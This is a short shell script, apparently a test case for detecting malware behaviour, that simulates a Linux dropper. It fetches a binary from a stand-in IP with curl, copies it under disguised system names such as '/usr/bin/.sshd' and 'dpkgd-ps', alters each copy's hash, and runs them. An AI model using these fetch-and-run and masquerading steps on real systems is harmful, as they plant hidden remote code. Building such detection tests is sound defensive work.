#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/gates http://203.0.113.10/programs/marker; chmod 755 /tmp/gates; mkdir -p /usr/bin/bsd-port
for n in /usr/bin/bsd-port/getty /usr/bin/.sshd /usr/bin/dpkgd-ps /usr/bin/$(head -c 5 /dev/urandom | od -An -tx1 | tr -d ' \n') /usr/sbin/lsof-ss; do cp /tmp/gates $n; echo >>$n; $n; done
rm -f /usr/bin/.sshd /tmp/gates; test -e /tmp/reached
took_place
